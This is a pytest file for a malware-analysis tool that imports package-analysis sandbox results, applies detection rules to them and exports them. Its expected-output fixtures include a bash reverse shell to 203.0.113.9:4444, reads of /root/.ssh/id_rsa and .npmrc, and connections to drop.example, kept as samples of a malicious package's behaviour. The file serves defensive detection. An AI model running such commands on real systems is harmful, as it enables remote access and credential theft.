"""Results of Package Analysis become dossiers that our rules judge, and dossiers its results."""

import gzip
import json
import sys
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from biopsy import detect
from biopsy.errors import UsageError
from biopsy.model.behaviour import By
from biopsy.model.dossier import Call, Dossier
from biopsy.model.run import Status
from biopsy.warehouse import Warehouse
from biopsy.warehouse.interchange import Passed, document, read, write
from biopsy.warehouse.wire import Stored, restore, store

sys.path.insert(0, str(Path(__file__).parent))

from foreign import STATIC, THIEF, dynamic, phase


def _taken(raw: bytes) -> Dossier:
    made = document(raw, "here")
    assert isinstance(made, Dossier), made
    return made


def _texts(dossier: Dossier, by: By = By.PACKAGE) -> list[str]:
    return [str(one) for one in dossier.behaviours if one.by is by]


def test_a_dynamic_result_says_what_it_says_in_our_words() -> None:
    assert _texts(_taken(THIEF)) == [
        "process.exec sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' @ package-analysis/install#1",
        "file.read /root/.ssh/id_rsa @ package-analysis/import#2",
        "file.read /root/.bashrc @ package-analysis/import#2",
        "file.write /root/.bashrc @ package-analysis/import#2",
        "file.write /tmp/a,b\\x0anet.dns x \\x40 y @ package-analysis/import#2",
        "net.connect drop.example:443 @ package-analysis/import#2",
        "net.connect [2001:db8::1]:80 @ package-analysis/import#2",
        "net.listen 0.0.0.0:8080 @ package-analysis/import#2",
        "net.dns drop.example @ package-analysis/import#2",
        "net.dns drop.example TXT @ package-analysis/import#2",
    ]


def test_what_its_own_tools_do_is_theirs_or_only_counted() -> None:
    dossier = _taken(THIEF)
    tools = _texts(dossier, By.TOOL)
    assert "file.read /root/.npmrc @ package-analysis/install#1" in tools
    assert any("pip install" in one for one in tools)
    assert not any("/usr/lib" in str(one) for one in dossier.behaviours)
    assert dossier.watches[0].files_read == 1


def test_what_is_imported_is_kept_and_read_back(tmp_path: Path) -> None:
    dossier = _taken(THIEF)
    Warehouse(tmp_path).add(dossier)
    assert Warehouse(tmp_path).get(dossier.run_id).behaviours == dossier.behaviours
    stored = msgspec.json.decode(msgspec.json.encode(store(dossier)), type=Stored)
    assert restore(stored) == dossier


def test_read_twice_it_is_the_same_run_and_other_bytes_are_another() -> None:
    assert _taken(THIEF).run_id == _taken(THIEF).run_id
    assert _taken(THIEF).run_id != _taken(dynamic()).run_id
    assert _taken(dynamic()).run_id.startswith("20231114-221320-")


def test_our_rules_replay_it_and_nothing_imported_is_called_benign() -> None:
    rules = detect.load(None)
    thief, calm = _taken(THIEF), _taken(dynamic())
    found = {one.rule for one in detect.match(rules, thief)}
    assert found
    assert detect.decide(detect.match(rules, calm), calm).call is Call.UNKNOWN
    static = _taken(STATIC)
    assert detect.decide(detect.match(rules, static), static).call is not Call.BENIGN


def test_no_order_within_a_phase_is_made_up() -> None:
    assert {one.where.seq for one in _taken(THIEF).behaviours} == {1, 2}  # type: ignore[union-attr]


STATUSES = [
    ("completed", Status.COMPLETED),
    ("error_analysis", Status.FAILED),
    ("error_timeout", Status.TIMEOUT),
    ("error_other", Status.CRASHED),
    ("", Status.CRASHED),
]


@pytest.mark.parametrize(("said", "meant"), STATUSES)
def test_how_a_phase_ended_is_kept(said: str, meant: Status) -> None:
    first, unread = _taken(dynamic(install=phase(Status=said))).outcomes
    assert (first.phase, first.status, first.profile) == ("install", meant, "package-analysis")
    assert first.output == "Successfully installed thing-1.0"
    assert unread.status is Status.SKIPPED


NAMES = [
    ("pypi", "Foo_Bar", "pypi", "foo-bar"),
    ("npm", "@a/b", "npm", "@a/b"),
    ("rubygems", "x", "gem", "x"),
    ("crates.io", "x_y", "cargo", "x_y"),
    ("packagist", "v/p", "composer", "v/p"),
]


@pytest.mark.parametrize(("theirs", "name", "ours", "normal"), NAMES)
def test_its_ecosystems_are_those_of_package_urls(theirs: str, name: str, ours: str, normal: str) -> None:
    release = _taken(dynamic(theirs, name)).release
    assert (release.ecosystem, release.name) == (ours, normal)


def test_a_static_result_says_what_it_says_in_our_words() -> None:
    assert _texts(_taken(STATIC)) == [
        "net.url https://drop.example/x @ index.js",
        "net.address 9.9.9.9 @ index.js",
        "code.obfuscated hex-identifiers @ index.js",
        "code.obfuscated escapes @ index.js",
    ]


def test_rows_of_its_table_are_read_as_bigquery_writes_them(tmp_path: Path) -> None:
    row = json.loads(THIEF)
    row["CreatedTimestamp"] = "2023-11-14 22:13:20 UTC"
    row["Analysis"]["execute"] = None
    row["Analysis"]["import"]["Sockets"][0]["Port"] = "443"
    row["Analysis"]["import"]["Stderr"] = "plain words, not base64!"
    path = tmp_path / "rows.ndjson.gz"
    path.write_bytes(gzip.compress(json.dumps(row).encode() + b"\n\n{broken\n" + dynamic() + b"\n"))
    first, broken, last = read(path)
    assert isinstance(first, Dossier)
    assert _texts(first) == _texts(_taken(THIEF))
    assert first.created == "2023-11-14T22:13:20Z"
    assert "plain words" in first.outcomes[1].output
    assert isinstance(broken, Passed)
    assert broken.place.endswith(":3")
    assert isinstance(last, Dossier)


ODD = [
    b"",
    b"null",
    b"[]",
    b"{",
    b"\xff",
    b"[" * 100_000,
    dynamic("nowhere"),
    dynamic(name=""),
    dynamic(name="x" * 1000),
    dynamic(install=phase(Files=7)),
    b'{"schema_version":"1.0"}',
    b'{"Package":{"Ecosystem":"npm","Name":"x"},"Analysis":{"install":[]}}',
]


@pytest.mark.parametrize("raw", ODD, ids=range(len(ODD)))
def test_what_is_no_result_is_passed_over_with_a_reason(raw: bytes) -> None:
    made = document(raw, "here")
    assert isinstance(made, Passed)
    assert made.why


def test_other_files_of_its_buckets_are_no_errors() -> None:
    log = b'{"Package":{"Ecosystem":"npm","Name":"x","Version":"1"},"CreatedTimestamp":1,"Analysis":"[module] x"}'
    for raw in (log, b'{"other":"thing"}'):
        made = document(raw, "here")
        assert isinstance(made, Passed)
        assert not made.odd


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.sampled_from(["Status", "Files", "Path", "Sockets", "Address", "Port", "DNS", "Commands"]) | st.text(), inner), max_leaves=20))  # fmt: skip
def test_no_document_whatever_breaks_reading(value: object) -> None:
    for made in (value, {"Package": {"Ecosystem": "npm", "Name": "x"}, "Analysis": {"install": value}}):
        assert isinstance(document(json.dumps(made).encode(), "here"), Dossier | Passed)


def test_a_result_that_is_exported_is_the_one_that_was_imported() -> None:
    """Left out are environments, who is 0.0.0.0, what only the image did, and the order of lists."""
    before, after = json.loads(THIEF), json.loads(write(_taken(THIEF), "dynamic"))
    assert list(after) == list(before) == ["Package", "CreatedTimestamp", "Analysis"]
    assert (after["Package"], after["CreatedTimestamp"]) == (before["Package"], before["CreatedTimestamp"])
    assert list(after["Analysis"]) == ["install", "import"]
    theirs, ours = before["Analysis"]["import"], after["Analysis"]["import"]
    assert list(ours) == list(theirs)
    assert ours["Files"] == theirs["Files"]
    assert ours["DNS"] == [{"Class": "IN", "Queries": [{"Hostname": "drop.example", "Types": ["A", "TXT"]}]}]
    assert ours["Sockets"] == theirs["Sockets"][:3]
    assert [one["Command"] for one in after["Analysis"]["install"]["Commands"]] == [
        one["Command"] for one in before["Analysis"]["install"]["Commands"]
    ]
    assert ours["Stdout"] == theirs["Stdout"]


def test_what_is_exported_and_imported_again_is_the_same() -> None:
    once = _taken(write(_taken(THIEF), "dynamic"))
    assert set(_texts(once)) - set(_texts(_taken(THIEF))) == set()
    assert _texts(_taken(write(_taken(STATIC), "static")))[:2] == _texts(_taken(STATIC))[:2]


def test_what_is_exported_is_escaped_as_its_encoder_does() -> None:
    written = write(_taken(THIEF), "dynamic")
    assert b"bash -i \\u003e\\u0026 /dev/tcp" in written
    assert not {b"<", b">", b"&"} & {written[at : at + 1] for at in range(len(written))}


@pytest.fixture
def run(tmp_path: Path) -> Callable[..., Result]:
    def command(*arguments: object) -> Result:
        from biopsy.cli.app import biopsy

        return CliRunner().invoke(
            biopsy, list(map(str, arguments)), env={"BIOPSY_HOME": str(tmp_path / "home")}
        )

    return command


def test_a_bucket_goes_in_and_comes_out(run: Callable[..., Result], tmp_path: Path) -> None:
    bucket = tmp_path / "bucket" / "pypi" / "thing"
    bucket.mkdir(parents=True)
    (bucket / "1.0.json").write_bytes(THIEF)
    (bucket / "2.0.json").write_bytes(STATIC)
    (bucket / "3.0.json").write_bytes(b"{broken")
    (bucket / "write_buffers_1.0.zip").write_bytes(b"PK")
    for _ in range(2):
        done = run("import", "package-analysis", tmp_path / "bucket")
        assert done.exit_code == 1
        assert "2 taken over" in done.stdout
        assert "3.0.json" in done.stderr
    assert len(list((tmp_path / "home" / "dossiers").rglob("*.json.gz"))) == 2
    assert run("export", "package-analysis", tmp_path / "out").exit_code == 0
    (kept,) = (tmp_path / "home" / "dossiers" / "npm").rglob("*.json.gz")
    gone = run("artifact", "get", kept.name.partition(".")[0], "-o", tmp_path / "x")
    assert (gone.exit_code, "of which artifact" in gone.stderr) == (2, True)
    made = sorted(
        path.relative_to(tmp_path / "out").as_posix() for path in (tmp_path / "out").rglob("*.json")
    )
    assert made == [
        "dynamic/pypi/thing/1.0.json",
        "static/npm/thing/2.0.0.json",
    ]


def test_a_file_that_is_none_is_wrong_usage(tmp_path: Path) -> None:
    (tmp_path / "x.json.gz").write_bytes(b"not gzip")
    with pytest.raises(UsageError, match="cannot read"):
        list(read(tmp_path / "x.json.gz"))
